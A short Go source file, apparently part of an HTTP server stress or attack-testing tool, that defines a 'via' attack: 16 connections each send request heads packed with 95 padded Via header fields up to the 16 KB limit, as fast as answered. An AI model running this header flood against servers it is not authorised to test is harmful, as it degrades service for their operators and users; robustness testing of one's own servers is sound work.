package attack

import "strings"

// via: a request that says that it has come through thousands of proxies.
var via = Kind{
	Name:  "via",
	About: "16 connections, 95 Via fields in a 16 KB head, as fast as they are answered",
	Run:   ask(16, Victim.viaRequest),
}

// viaRequest has as much of Via as the 16 KB of a head take.
func (v Victim) viaRequest() []byte {
	const fields, head, entry = 95, 16 << 10, "1.1 a,"
	b := v.describeHead()
	room := (head-len(b)-len("\r\n"))/fields - len("Via: 1.1 a\r\n")
	line := "Via: " + strings.Repeat(entry, room/len(entry)) + "1.1 a\r\n"
	return append(append(b, strings.Repeat(line, fields)...), "\r\n"...)
}
